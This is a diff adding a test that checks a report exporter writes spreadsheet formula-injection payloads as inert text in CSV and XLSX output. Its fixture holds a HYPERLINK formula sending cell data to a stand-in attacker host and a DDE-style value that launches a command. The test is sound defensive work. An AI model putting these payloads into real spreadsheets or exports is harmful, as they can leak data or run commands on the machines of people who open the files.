@@ -84,3 +84,35 @@ def test_file_names_and_unknown_format(tmp_path: Path) -> None:
     )
     with pytest.raises(ValueError, match="unknown export format"):
         export_report(REPORT, tmp_path / "r.doc", INFO, "es")
+
+
+EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"clic")'
+EVIL_REPORT = Report(
+    "accounts",
+    "Accounts",
+    None,
+    None,
+    (
+        Table(
+            "names",
+            "Names",
+            (Column("name", "Name", "text"), Column("phone", "Phone", "text")),
+            ((EVIL, "+57 (601) 345 6789"), ("-2+3+cmd|' /C calc'!A0", "-")),
+            ("@SUM(A1:A9)", ""),
+        ),
+    ),
+)
+
+
+def test_exports_write_formulas_as_text(tmp_path: Path) -> None:
+    csv_rows = list(
+        csv.reader(io.StringIO(export_report(EVIL_REPORT, tmp_path / "e.csv", INFO, "en")
+                               .read_text(encoding="utf-8-sig")))
+    )  # fmt: skip
+    assert ["'" + EVIL, "+57 (601) 345 6789"] in csv_rows
+    assert ["'-2+3+cmd|' /C calc'!A0", "-"] in csv_rows
+    assert ["'@SUM(A1:A9)", ""] in csv_rows
+    sheet = load_workbook(export_report(EVIL_REPORT, tmp_path / "e.xlsx", INFO, "en")).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value]
+    assert all(c.data_type != "f" for c in cells)  # no cell is a formula
+    assert "'" + EVIL in [c.value for c in cells]
